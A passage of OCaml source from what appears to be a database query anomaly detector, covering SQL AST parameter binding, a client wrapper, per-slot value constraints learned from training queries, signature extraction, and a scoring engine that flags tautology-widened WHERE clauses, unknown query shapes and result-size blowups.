    | Update { sets; where; _ } ->
        List.concat_map (fun (_, l) -> literal_params l) sets @ where_params where
    | Delete { where; _ } -> where_params where
  in
  List.fold_left (fun acc i -> max acc (i + 1)) 0 indices

let map_literals f stmt =
  let lit l = f l in
  let rec expr = function
    | Col _ as e -> e
    | Lit l -> Lit (lit l)
    | Cmp (op, a, b) -> Cmp (op, expr a, expr b)
    | And (a, b) -> And (expr a, expr b)
    | Or (a, b) -> Or (expr a, expr b)
    | Not a -> Not (expr a)
    | Like (a, b) -> Like (expr a, expr b)
    | In (a, lits) -> In (expr a, List.map lit lits)
  in
  let where = Option.map expr in
  match stmt with
  | Create _ as s -> s
  | Insert { table; columns; values } ->
      Insert { table; columns; values = List.map (List.map lit) values }
  | Select s -> Select { s with where = where s.where }
  | Update { table; sets; where = w } ->
      Update { table; sets = List.map (fun (c, l) -> (c, lit l)) sets; where = where w }
  | Delete { table; where = w } -> Delete { table; where = where w }

let bind_params params stmt =
  map_literals
    (function
      | L_param i when i >= 0 && i < Array.length params -> (
          match params.(i) with
          | Value.Int n -> L_int n
          | Value.Str s -> L_str s
          | Value.Null -> L_null)
      | l -> l)
    stmt

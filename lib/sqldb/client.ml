type dialect = Postgres | Mysql

type exec_result =
  | Result of Engine.result
  | Command_ok of int
  | Error of string

type conn = {
  engine : Engine.t;
  dialect : dialect;
  mutable last : exec_result option;
}

type cursor = { result : Engine.result; mutable next : int }

type prepared = { statement : Sql_ast.statement; nparams : int }

let prepared_statement p = p.statement

let bound_text prepared params =
  Sql_pp.to_string (Sql_ast.bind_params (Array.of_list params) prepared.statement)

let connect engine dialect = { engine; dialect; last = None }
let dialect conn = conn.dialect
let engine conn = conn.engine

let set_last_result conn r = conn.last <- r
let last_result conn = conn.last

let exec conn sql =
  match Engine.exec conn.engine sql with
  | Engine.Rows r -> Result r
  | Engine.Affected n -> Command_ok n
  | exception Engine.Sql_error msg -> Error msg
  | exception Sql_parser.Error msg -> Error msg
  | exception Sql_lexer.Error msg -> Error msg

let prepare _conn sql =
  match Sql_parser.parse sql with
  | statement -> Ok { statement; nparams = Sql_ast.param_count statement }
  | exception Sql_parser.Error msg -> Stdlib.Error msg
  | exception Sql_lexer.Error msg -> Stdlib.Error msg

let exec_prepared conn prepared params =
  if List.length params <> prepared.nparams then
    Error
      (Printf.sprintf "expected %d parameters, got %d" prepared.nparams (List.length params))
  else
    match Engine.execute ~params:(Array.of_list params) conn.engine prepared.statement with
    | Engine.Rows r -> Result r
    | Engine.Affected n -> Command_ok n
    | exception Engine.Sql_error msg -> Error msg

let ntuples = function
  | Result r -> Array.length r.Engine.rows
  | Command_ok _ | Error _ -> 0

let nfields = function
  | Result r -> Array.length r.Engine.columns
  | Command_ok _ | Error _ -> 0

let getvalue res row col =
  match res with
  | Result r ->
      if row < 0 || row >= Array.length r.Engine.rows then Value.Null
      else
        let cells = r.Engine.rows.(row) in
        if col < 0 || col >= Array.length cells then Value.Null else cells.(col)
  | Command_ok _ | Error _ -> Value.Null

let cursor_of_result = function
  | Result r -> Some { result = r; next = 0 }
  | Command_ok _ | Error _ -> None

let fetch_row cursor =
  if cursor.next >= Array.length cursor.result.Engine.rows then None
  else begin
    let row = cursor.result.Engine.rows.(cursor.next) in
    cursor.next <- cursor.next + 1;
    Some row
  end

let cursor_num_rows cursor = Array.length cursor.result.Engine.rows
let cursor_num_fields cursor = Array.length cursor.result.Engine.columns

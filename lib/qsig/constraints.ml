type policy = Strict | Flexible

let policy_to_string = function Strict -> "strict" | Flexible -> "flexible"

let policy_of_string = function
  | "strict" -> Some Strict
  | "flexible" -> Some Flexible
  | _ -> None

(* Value sets are kept only while small; past this many distinct
   members a slot degrades to its range/shape summary. *)
let max_set = 16

type shape = Digits | Alpha | Alnum | Other_shape

let shape_of_string_value s =
  let n = String.length s in
  if n = 0 then Other_shape
  else begin
    let digits = ref true and alpha = ref true in
    String.iter
      (fun c ->
        let d = c >= '0' && c <= '9' in
        let a = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') in
        if not d then digits := false;
        if not a then alpha := false;
        if not (d || a) then begin
          digits := false;
          alpha := false
        end)
      s;
    if !digits then Digits
    else if !alpha then Alpha
    else if String.for_all (fun c -> (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) s then Alnum
    else Other_shape
  end

let shape_to_char = function Digits -> 'd' | Alpha -> 'a' | Alnum -> 'n' | Other_shape -> 'o'

let shape_of_char = function
  | 'd' -> Some Digits
  | 'a' -> Some Alpha
  | 'n' -> Some Alnum
  | 'o' -> Some Other_shape
  | _ -> None

module IntSet = Set.Make (Int)
module StrSet = Set.Make (String)

type ints = { ilo : int; ihi : int; iset : IntSet.t option }

type strs = {
  shapes : int;  (** bitmask over {!shape} *)
  llo : int;  (** min observed length *)
  lhi : int;  (** max observed length *)
  sset : StrSet.t option;
}

type slot =
  | Bot  (** no observation yet *)
  | Ints of ints
  | Strs of strs
  | Top  (** mixed types or a free placeholder: anything goes *)

type t = { dom : slot; nullable : bool }

let bot = { dom = Bot; nullable = false }
let top = { dom = Top; nullable = true }

let shape_bit s = 1 lsl (match s with Digits -> 0 | Alpha -> 1 | Alnum -> 2 | Other_shape -> 3)

let add_int_set set v =
  match set with
  | None -> None
  | Some s ->
      if IntSet.mem v s then set
      else if IntSet.cardinal s >= max_set then None
      else Some (IntSet.add v s)

let add_str_set set v =
  match set with
  | None -> None
  | Some s ->
      if StrSet.mem v s then set
      else if StrSet.cardinal s >= max_set then None
      else Some (StrSet.add v s)

let observe t (v : Signature.slot_value) =
  match v with
  | Signature.V_free -> { t with dom = Top }
  | Signature.V_null -> { t with nullable = true }
  | Signature.V_int n -> (
      match t.dom with
      | Bot -> { t with dom = Ints { ilo = n; ihi = n; iset = Some (IntSet.singleton n) } }
      | Ints i ->
          { t with
            dom = Ints { ilo = min i.ilo n; ihi = max i.ihi n; iset = add_int_set i.iset n } }
      | Strs _ -> { t with dom = Top }
      | Top -> t)
  | Signature.V_str s -> (
      let len = String.length s in
      let bit = shape_bit (shape_of_string_value s) in
      match t.dom with
      | Bot ->
          { t with
            dom = Strs { shapes = bit; llo = len; lhi = len; sset = Some (StrSet.singleton s) } }
      | Strs c ->
          { t with
            dom =
              Strs
                {
                  shapes = c.shapes lor bit;
                  llo = min c.llo len;
                  lhi = max c.lhi len;
                  sset = add_str_set c.sset s;
                } }
      | Ints _ -> { t with dom = Top }
      | Top -> t)

let observe_all t values = List.fold_left observe t values

(* Violation messages double as machine-checkable reasons; [None] means
   the value conforms. Flexible accepts a superset of Strict so that
   Flexible violations are always Strict violations too. *)
let describe_value = function
  | Signature.V_int n -> string_of_int n
  | Signature.V_str s -> Printf.sprintf "%S" s
  | Signature.V_null -> "NULL"
  | Signature.V_free -> "?"

let check policy t (v : Signature.slot_value) =
  match (t.dom, v) with
  | Top, _ | _, Signature.V_free -> None
  | Bot, _ -> None (* unconstrained: the signature itself was never trained *)
  | _, Signature.V_null -> if t.nullable then None else Some "NULL in a non-nullable slot"
  | Ints i, Signature.V_int n -> (
      let span = i.ihi - i.ilo in
      match policy with
      | Strict -> (
          match i.iset with
          | Some s when not (IntSet.mem n s) ->
              Some (Printf.sprintf "%d outside the trained value set" n)
          | Some _ -> None
          | None ->
              if n < i.ilo || n > i.ihi then
                Some (Printf.sprintf "%d outside the trained range [%d, %d]" n i.ilo i.ihi)
              else None)
      | Flexible ->
          if n < i.ilo - span || n > i.ihi + span then
            Some
              (Printf.sprintf "%d far outside the trained range [%d, %d]" n i.ilo i.ihi)
          else None)
  | Strs c, Signature.V_str s -> (
      let len = String.length s in
      let bit = shape_bit (shape_of_string_value s) in
      let shape_ok = c.shapes land bit <> 0 in
      match policy with
      | Strict -> (
          match c.sset with
          | Some set when not (StrSet.mem s set) ->
              Some (Printf.sprintf "%S outside the trained value set" s)
          | Some _ -> None
          | None ->
              if not shape_ok then Some (Printf.sprintf "%S has an untrained shape" s)
              else if len < c.llo || len > c.lhi then
                Some
                  (Printf.sprintf "%S length outside the trained band [%d, %d]" s c.llo
                     c.lhi)
              else None)
      | Flexible ->
          if not shape_ok then Some (Printf.sprintf "%S has an untrained shape" s)
          else if len > (2 * c.lhi) + 8 then
            Some (Printf.sprintf "%S far longer than trained values" s)
          else None)
  | Ints _, Signature.V_str _ | Strs _, Signature.V_int _ ->
      Some (Printf.sprintf "%s has the wrong type for this slot" (describe_value v))

let check_all policy t values = List.filter_map (check policy t) values

(* ------------------------------------------------------------------ *)
(* Result-cardinality bands. *)

type band = { blo : int; bhi : int; samples : int }

let band_empty = { blo = max_int; bhi = min_int; samples = 0 }

let band_observe b rows =
  { blo = min b.blo rows; bhi = max b.bhi rows; samples = b.samples + 1 }

let band_check policy b rows =
  if b.samples = 0 then None
  else
    match policy with
    | Strict ->
        if rows < b.blo || rows > b.bhi then Some (b.blo, b.bhi) else None
    | Flexible -> if rows > (4 * b.bhi) + 8 then Some (b.blo, b.bhi) else None

(* ------------------------------------------------------------------ *)
(* Line-safe serialization for profile files. Values are percent-
   encoded so commas, tabs and newlines survive the round trip. *)

let encode_value s =
  let buf = Buffer.create (String.length s + 4) in
  String.iter
    (fun c ->
      match c with
      | '%' | ',' | '\t' | '\n' | '\r' | ' ' ->
          Buffer.add_string buf (Printf.sprintf "%%%02X" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let decode_value s =
  let buf = Buffer.create (String.length s) in
  let n = String.length s in
  let i = ref 0 in
  while !i < n do
    (if s.[!i] = '%' && !i + 2 < n then begin
       match int_of_string_opt ("0x" ^ String.sub s (!i + 1) 2) with
       | Some code ->
           Buffer.add_char buf (Char.chr code);
           i := !i + 3
       | None ->
           Buffer.add_char buf s.[!i];
           incr i
     end
     else begin
       Buffer.add_char buf s.[!i];
       incr i
     end)
  done;
  Buffer.contents buf

let slot_to_string t =
  let null = if t.nullable then "1" else "0" in
  match t.dom with
  | Bot -> Printf.sprintf "bot %s" null
  | Top -> Printf.sprintf "top %s" null
  | Ints i ->
      let set =
        match i.iset with
        | None -> "-"
        | Some s -> String.concat "," (List.map string_of_int (IntSet.elements s))
      in
      Printf.sprintf "int %s %d %d %s" null i.ilo i.ihi set
  | Strs c ->
      let shapes =
        String.concat ""
          (List.filter_map
             (fun sh -> if c.shapes land shape_bit sh <> 0 then Some (String.make 1 (shape_to_char sh)) else None)
             [ Digits; Alpha; Alnum; Other_shape ])
      in
      let set =
        match c.sset with
        | None -> "-"
        | Some s -> String.concat "," (List.map encode_value (StrSet.elements s))
      in
      Printf.sprintf "str %s %d %d %s %s" null c.llo c.lhi
        (if shapes = "" then "-" else shapes)
        set

let slot_of_string line =
  let nullable_of = function "1" -> Some true | "0" -> Some false | _ -> None in
  match String.split_on_char ' ' line with
  | [ "bot"; n ] -> Option.map (fun nullable -> { dom = Bot; nullable }) (nullable_of n)
  | [ "top"; n ] -> Option.map (fun nullable -> { dom = Top; nullable }) (nullable_of n)
  | [ "int"; n; lo; hi; set ] -> (
      match (nullable_of n, int_of_string_opt lo, int_of_string_opt hi) with
      | Some nullable, Some ilo, Some ihi ->
          let iset =
            if set = "-" then None
            else
              Some
                (List.fold_left
                   (fun acc x ->
                     match int_of_string_opt x with
                     | Some v -> IntSet.add v acc
                     | None -> acc)
                   IntSet.empty
                   (if set = "" then [] else String.split_on_char ',' set))
          in
          Some { dom = Ints { ilo; ihi; iset }; nullable }
      | _ -> None)
  | [ "str"; n; llo; lhi; shapes; set ] -> (
      match (nullable_of n, int_of_string_opt llo, int_of_string_opt lhi) with
      | Some nullable, Some llo, Some lhi ->
          let mask =
            if shapes = "-" then 0
            else
              String.fold_left
                (fun acc c ->
                  match shape_of_char c with
                  | Some sh -> acc lor shape_bit sh
                  | None -> acc)
                0 shapes
          in
          let sset =
            if set = "-" then None
            else
              Some
                (List.fold_left
                   (fun acc x -> StrSet.add (decode_value x) acc)
                   StrSet.empty
                   (if set = "" then [] else String.split_on_char ',' set))
          in
          Some { dom = Strs { shapes = mask; llo; lhi; sset }; nullable }
      | _ -> None)
  | _ -> None

module Ast = Sqldb.Sql_ast

type t = string

let malformed = "<malformed>"

let of_statement stmt = Sqldb.Sql_pp.signature stmt

let of_sql sql =
  match Sqldb.Sql_parser.parse sql with
  | stmt -> Ok (of_statement stmt)
  | exception Sqldb.Sql_parser.Error msg -> Error msg
  | exception Sqldb.Sql_lexer.Error msg -> Error msg

let to_string s = s
let compare = String.compare
let equal = String.equal

(* ------------------------------------------------------------------ *)
(* Slot extraction.

   A slot is one literal position of the erased signature, so the slot
   vector of a statement depends only on its signature: WHERE literals
   appear in source order, an IN-list is a single slot aggregating its
   members, INSERT slots aggregate per column position across tuples,
   and LIMIT contributes a final slot. *)

type slot_value =
  | V_int of int
  | V_str of string
  | V_null
  | V_free  (** an unbound [?] placeholder: the slot can hold anything *)

let value_of_literal = function
  | Ast.L_int n -> V_int n
  | Ast.L_str s -> V_str s
  | Ast.L_null -> V_null
  | Ast.L_param _ -> V_free

let rec expr_slots acc = function
  | Ast.Col _ -> acc
  | Ast.Lit l -> [ value_of_literal l ] :: acc
  | Ast.Cmp (_, a, b) | Ast.And (a, b) | Ast.Or (a, b) | Ast.Like (a, b) ->
      expr_slots (expr_slots acc a) b
  | Ast.Not a -> expr_slots acc a
  | Ast.In (a, lits) -> List.map value_of_literal lits :: expr_slots acc a

let where_slots acc = function None -> acc | Some e -> expr_slots acc e

let slots stmt : slot_value list array =
  let rev =
    match stmt with
    | Ast.Create _ -> []
    | Ast.Insert { values; _ } -> (
        match values with
        | [] -> []
        | first :: _ ->
            let width = List.length first in
            let cols = Array.make width [] in
            List.iter
              (fun tuple ->
                List.iteri
                  (fun i lit ->
                    if i < width then cols.(i) <- value_of_literal lit :: cols.(i))
                  tuple)
              values;
            Array.to_list cols |> List.rev_map List.rev)
    | Ast.Select { where; limit; _ } ->
        let acc = where_slots [] where in
        (match limit with Some n -> [ V_int n ] :: acc | None -> acc)
    | Ast.Update { sets; where; _ } ->
        let acc =
          List.fold_left (fun acc (_, l) -> [ value_of_literal l ] :: acc) [] sets
        in
        where_slots acc where
    | Ast.Delete { where; _ } -> where_slots [] where
  in
  Array.of_list (List.rev rev)

(* ------------------------------------------------------------------ *)
(* Predicate-widening check: three-valued evaluation of the WHERE
   clause with every non-constant atom Unknown. A clause that is true
   regardless of row data (Or of anything with a true constant
   comparison) is the tautology shape of Attack 5. *)

type warning = Tautology | Constant_comparison

type tri = T | F | U

let tri_and a b =
  match (a, b) with F, _ | _, F -> F | T, T -> T | _ -> U

let tri_or a b = match (a, b) with T, _ | _, T -> T | F, F -> F | _ -> U

let tri_not = function T -> F | F -> T | U -> U

let concrete = function
  | Ast.L_int _ | Ast.L_str _ | Ast.L_null -> true
  | Ast.L_param _ -> false

let literal_value = function
  | Ast.L_int n -> Some (Sqldb.Value.Int n)
  | Ast.L_str s -> Some (Sqldb.Value.Str s)
  | Ast.L_null -> Some Sqldb.Value.Null
  | Ast.L_param _ -> None

let cmp_holds op c =
  match op with
  | Ast.Ceq -> c = 0
  | Ast.Cne -> c <> 0
  | Ast.Clt -> c < 0
  | Ast.Cle -> c <= 0
  | Ast.Cgt -> c > 0
  | Ast.Cge -> c >= 0

let rec tri_eval ~saw_constant = function
  | Ast.Cmp (op, Ast.Lit a, Ast.Lit b) when concrete a && concrete b -> (
      saw_constant := true;
      match (literal_value a, literal_value b) with
      | Some va, Some vb -> (
          match Sqldb.Value.compare_values va vb with
          | Some c -> if cmp_holds op c then T else F
          | None -> F (* NULL comparison: SQL-false *))
      | _ -> U)
  | Ast.In (Ast.Lit a, lits) when concrete a && List.for_all concrete lits ->
      saw_constant := true;
      let va = literal_value a in
      let hit lit =
        match (va, literal_value lit) with
        | Some va, Some vl -> Sqldb.Value.compare_values va vl = Some 0
        | _ -> false
      in
      if List.exists hit lits then T else F
  | Ast.And (a, b) -> tri_and (tri_eval ~saw_constant a) (tri_eval ~saw_constant b)
  | Ast.Or (a, b) -> tri_or (tri_eval ~saw_constant a) (tri_eval ~saw_constant b)
  | Ast.Not a -> tri_not (tri_eval ~saw_constant a)
  | Ast.Cmp _ | Ast.Like _ | Ast.In _ | Ast.Col _ | Ast.Lit _ -> U

let where_warnings where =
  match where with
  | None -> []
  | Some e ->
      let saw_constant = ref false in
      let verdict = tri_eval ~saw_constant e in
      let acc = if verdict = T then [ Tautology ] else [] in
      if !saw_constant && verdict <> T then Constant_comparison :: acc else acc

let widening_warnings = function
  | Ast.Create _ | Ast.Insert _ -> []
  | Ast.Select { where; _ } | Ast.Update { where; _ } | Ast.Delete { where; _ } ->
      where_warnings where

(** Per-slot constraint lattice and result-cardinality bands.

    Each literal slot of a trained signature carries a constraint
    learned from the values observed during training: an integer range
    plus a small value set, or a string shape class (digits / alpha /
    alphanumeric / other) with a length band and a small value set.
    Mixed types or free placeholders degrade to Top (anything goes).

    Two policy modes follow DetAnom: [Strict] enforces the tightest
    summary held (value set if still small, else range / shape+length);
    [Flexible] widens ranges by their span and length bands, accepting
    drift. Every Flexible violation is also a Strict violation, so
    enforce-mode anomalies are a superset of warn-mode ones when warn
    runs Flexible. *)

type policy = Strict | Flexible

val policy_to_string : policy -> string
val policy_of_string : string -> policy option

type shape = Digits | Alpha | Alnum | Other_shape

val shape_of_string_value : string -> shape

type t
(** One slot's constraint. *)

val bot : t
(** No observation yet. *)

val top : t
(** Anything goes. *)

val observe : t -> Signature.slot_value -> t
val observe_all : t -> Signature.slot_value list -> t

val check : policy -> t -> Signature.slot_value -> string option
(** [None] when the value conforms; [Some why] otherwise. *)

val check_all : policy -> t -> Signature.slot_value list -> string list

(** {1 Result-cardinality bands} *)

type band = { blo : int; bhi : int; samples : int }

val band_empty : band
val band_observe : band -> int -> band

val band_check : policy -> band -> int -> (int * int) option
(** [Some (lo, hi)] — the trained band — when [rows] falls outside it.
    Strict flags both directions; Flexible only blowups past
    [4*hi + 8]. A band with no samples never flags. *)

(** {1 Serialization} *)

val slot_to_string : t -> string
(** Single-line, tab-free form for profile files. *)

val slot_of_string : string -> t option

type reason =
  | Unknown_signature of string
  | Impossible_signature of string
  | Malformed of string
  | Tautology
  | Constant_comparison
  | Slot_violation of { slot : int; why : string }
  | Cardinality_blowup of { rows : int; lo : int; hi : int }

type verdict = { anomalous : bool; reasons : reason list }

let normal = { anomalous = false; reasons = [] }

let reason_to_string = function
  | Unknown_signature s -> Printf.sprintf "unknown signature %s" s
  | Impossible_signature s ->
      Printf.sprintf "statically impossible signature %s" s
  | Malformed msg -> Printf.sprintf "unparseable query (%s)" msg
  | Tautology -> "tautology-widened WHERE clause"
  | Constant_comparison -> "constant comparison in WHERE clause"
  | Slot_violation { slot; why } -> Printf.sprintf "slot %d: %s" slot why
  | Cardinality_blowup { rows; lo; hi } ->
      Printf.sprintf "result cardinality %d outside the trained band [%d, %d]" rows lo hi

let verdict_to_string v =
  if not v.anomalous then "normal"
  else String.concat "; " (List.map reason_to_string v.reasons)

(* Everything derivable from the query text alone — signature lookup,
   widening warnings, slot-constraint checks, the static-gate verdict —
   is memoized per raw text; only the cardinality band is applied per
   call. [gate_impossible] holds the canonical signature when the
   loaded static set proves the program cannot emit it. *)
type compiled = {
  static_reasons : reason list;
  band : Constraints.band option;
  gate_impossible : string option;
}

(* The signature set Qstatic inferred for the monitored program. Only a
   [complete] set (no open call sites) may reject: an open site means
   the inference lost track of some query text, so absence proves
   nothing. *)
type static = { static_set : (string, unit) Hashtbl.t; static_complete : bool }

type t = {
  profile : Profile.t;
  policy : Constraints.policy;
  codes : (string, int) Hashtbl.t;  (** signature text -> dense code *)
  entries : Profile.entry array;  (** indexed by code *)
  memo : (string, compiled) Hashtbl.t;
  memo_capacity : int;
  mutable memo_hits : int;
  mutable memo_misses : int;
  mutable checks : int;
  mutable anomalies : int;
  mutable parse_errors : int;
  mutable static : static option;
  mutable gate_enforce : bool;
  mutable gate_checks : int;
  mutable gate_rejections : int;
}

let default_memo_capacity = 4096

let create ?(policy = Constraints.Strict) ?(memo_capacity = default_memo_capacity)
    profile =
  if memo_capacity < 0 then invalid_arg "Adprom_qsig.Engine.create: negative capacity";
  let keys = Profile.signatures profile in
  let codes = Hashtbl.create (List.length keys * 2) in
  List.iteri (fun i key -> Hashtbl.replace codes key i) keys;
  let entries =
    Array.of_list
      (List.map
         (fun key ->
           match Profile.find_by_text profile key with
           | Some e -> e
           | None -> assert false)
         keys)
  in
  {
    profile;
    policy;
    codes;
    entries;
    memo = Hashtbl.create 64;
    memo_capacity;
    memo_hits = 0;
    memo_misses = 0;
    checks = 0;
    anomalies = 0;
    parse_errors = 0;
    static = None;
    gate_enforce = false;
    gate_checks = 0;
    gate_rejections = 0;
  }

let profile t = t.profile
let policy t = t.policy
let signature_count t = Array.length t.entries

let gate_verdict t key =
  match t.static with
  | Some { static_set; static_complete = true }
    when not (Hashtbl.mem static_set key) ->
      Some key
  | _ -> None

let compile t sql =
  match Sqldb.Sql_parser.parse sql with
  | exception Sqldb.Sql_parser.Error msg ->
      t.parse_errors <- t.parse_errors + 1;
      (* Malformed texts are never gate-rejected: they already carry a
         Malformed anomaly and have no canonical signature to test. *)
      { static_reasons = [ Malformed msg ]; band = None; gate_impossible = None }
  | exception Sqldb.Sql_lexer.Error msg ->
      t.parse_errors <- t.parse_errors + 1;
      { static_reasons = [ Malformed msg ]; band = None; gate_impossible = None }
  | stmt -> (
      let widening =
        List.map
          (function
            | Signature.Tautology -> Tautology
            | Signature.Constant_comparison -> Constant_comparison)
          (Signature.widening_warnings stmt)
      in
      let key = Signature.to_string (Signature.of_statement stmt) in
      let gate_impossible = gate_verdict t key in
      match Hashtbl.find_opt t.codes key with
      | None ->
          {
            static_reasons = widening @ [ Unknown_signature key ];
            band = None;
            gate_impossible;
          }
      | Some code ->
          let entry = t.entries.(code) in
          let observed = Signature.slots stmt in
          let violations = ref [] in
          Array.iteri
            (fun i values ->
              if i < Array.length entry.Profile.slots then
                List.iter
                  (fun why -> violations := Slot_violation { slot = i; why } :: !violations)
                  (Constraints.check_all t.policy entry.Profile.slots.(i) values))
            observed;
          {
            static_reasons = widening @ List.rev !violations;
            band = Some entry.Profile.band;
            gate_impossible;
          })

let lookup t sql =
  match Hashtbl.find_opt t.memo sql with
  | Some c ->
      t.memo_hits <- t.memo_hits + 1;
      c
  | None ->
      t.memo_misses <- t.memo_misses + 1;
      let c = compile t sql in
      if t.memo_capacity > 0 then begin
        (* Epoch eviction: a full memo is cleared wholesale. Cheap, and
           the working set of distinct query texts re-fills it fast. *)
        if Hashtbl.length t.memo >= t.memo_capacity then Hashtbl.reset t.memo;
        Hashtbl.replace t.memo sql c
      end;
      c

let check ?rows t sql =
  t.checks <- t.checks + 1;
  let c = lookup t sql in
  if t.static <> None then t.gate_checks <- t.gate_checks + 1;
  match c.gate_impossible with
  | Some key when t.gate_enforce ->
      (* Enforce short-circuits before the constraint layer: the program
         provably cannot emit this shape, so slot/band detail is moot. *)
      t.gate_rejections <- t.gate_rejections + 1;
      t.anomalies <- t.anomalies + 1;
      { anomalous = true; reasons = [ Impossible_signature key ] }
  | gate ->
      (* Explain mode counts the would-be rejection but leaves the
         verdict bit-for-bit what the ungated engine produces. *)
      if gate <> None then t.gate_rejections <- t.gate_rejections + 1;
      let reasons =
        match (rows, c.band) with
        | Some rows, Some band -> (
            match Constraints.band_check t.policy band rows with
            | Some (lo, hi) ->
                c.static_reasons @ [ Cardinality_blowup { rows; lo; hi } ]
            | None -> c.static_reasons)
        | _ -> c.static_reasons
      in
      if reasons = [] then normal
      else begin
        t.anomalies <- t.anomalies + 1;
        { anomalous = true; reasons }
      end

let check_log t log = List.map (fun (sql, rows) -> check ~rows t sql) log

let checks t = t.checks
let anomalies t = t.anomalies
let parse_errors t = t.parse_errors
let memo_hits t = t.memo_hits
let memo_misses t = t.memo_misses
let memo_len t = Hashtbl.length t.memo
let invalidate t = Hashtbl.reset t.memo

let set_static_signatures t ~complete keys =
  let static_set = Hashtbl.create (List.length keys * 2) in
  List.iter (fun k -> Hashtbl.replace static_set k ()) keys;
  t.static <- Some { static_set; static_complete = complete };
  (* Memoized entries were compiled against the previous (or no) static
     set; their cached gate verdicts are stale. *)
  invalidate t

let clear_static_signatures t =
  t.static <- None;
  invalidate t

let static_signatures_loaded t = t.static <> None
let set_gate_enforce t on = t.gate_enforce <- on
let gate_enforced t = t.gate_enforce
let gate_checks t = t.gate_checks
let gate_rejections t = t.gate_rejections

module Scorer = struct
  type engine = t

  type nonrec t = {
    engine : engine;
    mutable queries_seen : int;
    mutable scorer_anomalies : int;
    mutable last : verdict option;
  }

  let create engine = { engine; queries_seen = 0; scorer_anomalies = 0; last = None }

  let engine s = s.engine

  let push s ?rows sql =
    let v = check ?rows s.engine sql in
    s.queries_seen <- s.queries_seen + 1;
    if v.anomalous then s.scorer_anomalies <- s.scorer_anomalies + 1;
    s.last <- Some v;
    v

  let queries_seen s = s.queries_seen
  let anomalies s = s.scorer_anomalies
  let last s = s.last
end

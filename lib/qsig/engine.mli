(** The compiled query-signature engine — the query axis' hot path,
    built once per profile, mirroring {!Adprom.Scoring} for the
    sequence axis.

    [create] interns the profile's signatures to dense codes and
    resolves each to its slot constraints and cardinality band. Every
    static property of a query text — parseability, signature lookup,
    predicate-widening warnings, slot-constraint violations — is
    memoized per raw text in a bounded table, so the steady-state cost
    of a repeated query is one hash lookup plus the band comparison.
    Parse failures are soft: counted in {!parse_errors} and returned as
    a {!Malformed} anomaly, never raised.

    An engine is not thread-safe (it owns the memo and counters): use
    one per domain, as the daemon does per shard. *)

type reason =
  | Unknown_signature of string  (** a shape never seen in training *)
  | Impossible_signature of string
      (** rejected by the static gate: the monitored program's code
          cannot emit this signature, so the query came from somewhere
          else (injection, MITM, or a cross-program profile) *)
  | Malformed of string  (** unparseable query text *)
  | Tautology  (** WHERE true regardless of row data (Attack 5 shape) *)
  | Constant_comparison  (** a literal-to-literal comparison in WHERE *)
  | Slot_violation of { slot : int; why : string }
      (** a literal outside its trained constraint *)
  | Cardinality_blowup of { rows : int; lo : int; hi : int }
      (** result size outside the trained band — the leak channel *)

type verdict = { anomalous : bool; reasons : reason list }

val normal : verdict
val reason_to_string : reason -> string
val verdict_to_string : verdict -> string

type t

val default_memo_capacity : int
(** 4096 memoized query texts. *)

val create :
  ?policy:Constraints.policy -> ?memo_capacity:int -> Profile.t -> t
(** Compile the profile under a policy (default [Strict]).
    [memo_capacity 0] disables the memo.
    @raise Invalid_argument on a negative capacity. *)

val profile : t -> Profile.t
val policy : t -> Constraints.policy
val signature_count : t -> int

val check : ?rows:int -> t -> string -> verdict
(** Check one executed query; [rows] enables the cardinality-band
    check. Never raises. *)

val check_log : t -> (string * int) list -> verdict list
(** Batch form over an executed-query log; equals folding
    {!Scorer.push} over the same log (property-tested). *)

val checks : t -> int
val anomalies : t -> int
val parse_errors : t -> int
val memo_hits : t -> int
val memo_misses : t -> int
val memo_len : t -> int

val invalidate : t -> unit
(** Drop the memo (counters are preserved). *)

(** {2 Static-signature gate}

    The pre-scoring gate over {!Analysis.Qstatic} results, mirroring
    [Adprom.Scoring.set_static_dfa] on the sequence axis. Load the
    program's statically inferred signature set with
    {!set_static_signatures}; every {!check} then counts one gate check
    and, when the query's canonical signature is provably outside the
    set, one gate rejection. In explain mode (the default) the verdict
    is bit-for-bit what the ungated engine returns — only the counters
    move. Under {!set_gate_enforce} the check short-circuits before the
    constraint layer with an [Impossible_signature] anomaly.

    An incomplete static set ([complete:false] — the inference left an
    open call site) never rejects: absence from an under-approximated
    set proves nothing. Malformed texts are never gate-rejected. *)

val set_static_signatures : t -> complete:bool -> string list -> unit
(** Install the static signature set (flushes the memo — cached gate
    verdicts would be stale). *)

val clear_static_signatures : t -> unit
(** Remove the static set; the gate becomes inert. *)

val static_signatures_loaded : t -> bool

val set_gate_enforce : t -> bool -> unit
(** [false] (default) is explain mode; [true] turns gate hits into
    [Impossible_signature] anomalies. *)

val gate_enforced : t -> bool

val gate_checks : t -> int
(** Checks performed while a static set was loaded. *)

val gate_rejections : t -> int
(** Gate hits — would-be rejections in explain mode, actual anomalies
    under enforce. *)

module Scorer : sig
  (** Per-session streaming checker: one [push] per executed query.
      All sessions of a domain share the engine's memo, so tenants
      issuing the same statements score each other's work. *)

  type engine = t

  type t

  val create : engine -> t
  val engine : t -> engine

  val push : t -> ?rows:int -> string -> verdict

  val queries_seen : t -> int
  val anomalies : t -> int
  val last : t -> verdict option
end

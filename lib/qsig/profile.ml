type entry = {
  mutable slots : Constraints.t array;
  mutable band : Constraints.band;
  mutable count : int;
}

type t = { entries : (string, entry) Hashtbl.t; mutable malformed : int }

let create () = { entries = Hashtbl.create 16; malformed = 0 }

let find t signature = Hashtbl.find_opt t.entries (Signature.to_string signature)

let find_by_text t text = Hashtbl.find_opt t.entries text

let entry_for t signature nslots =
  let key = Signature.to_string signature in
  match Hashtbl.find_opt t.entries key with
  | Some e ->
      (* Arity classes guarantee equal slot counts per signature; stay
         defensive anyway and widen extra positions to Top. *)
      if Array.length e.slots < nslots then begin
        let widened = Array.make nslots Constraints.top in
        Array.blit e.slots 0 widened 0 (Array.length e.slots);
        e.slots <- widened
      end;
      e
  | None ->
      let e =
        {
          slots = Array.make nslots Constraints.bot;
          band = Constraints.band_empty;
          count = 0;
        }
      in
      Hashtbl.replace t.entries key e;
      e

let learn_statement ?rows t stmt =
  let signature = Signature.of_statement stmt in
  let observed = Signature.slots stmt in
  let e = entry_for t signature (Array.length observed) in
  Array.iteri
    (fun i values ->
      if i < Array.length e.slots then
        e.slots.(i) <- Constraints.observe_all e.slots.(i) values)
    observed;
  (match rows with Some n -> e.band <- Constraints.band_observe e.band n | None -> ());
